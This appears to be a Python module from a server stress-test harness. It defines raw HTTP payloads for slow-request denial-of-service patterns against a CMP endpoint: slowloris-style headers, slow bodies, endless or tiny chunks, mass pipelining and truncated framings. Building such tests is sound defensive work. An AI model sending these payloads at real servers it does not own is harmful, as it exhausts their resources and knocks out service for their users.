"""Ways to keep a server busy with what never becomes a request."""

from __future__ import annotations

from .framings import framings

__all__ = ["attacks"]

_HEAD = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/pkixcmp\r\n"
_CHUNKED = _HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
_ASKING = b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n"
_TINY = b"1\r\nx\r\n"


def attacks(message: bytes) -> dict[str, tuple[list[bytes], bytes]]:
    """By name, for ``Flood``: what connections send first, by turns, and what they send then, again and again.

    Args:
        message: is in some of the requests, without its end.
    """
    return {
        "silent": ([b""], b""),
        "slow header": ([_HEAD[:20]], b"a"),
        "slow body": ([_HEAD + b"Content-Length: 5000\r\n\r\n"], b"a"),
        "endless header": ([_HEAD], b"X-Y: z\r\n" * 40),
        "endless chunks": ([_CHUNKED], b"100\r\n" + b"x" * 256 + b"\r\n"),
        "tiny chunks": ([_CHUNKED + _TINY * 3_000], _TINY * 500),
        "pipelined": ([_ASKING * 1_000], _ASKING * 100),
        "wrong framings": ([sent[:-1] for sent, _ in framings(message).values()], b""),
    }
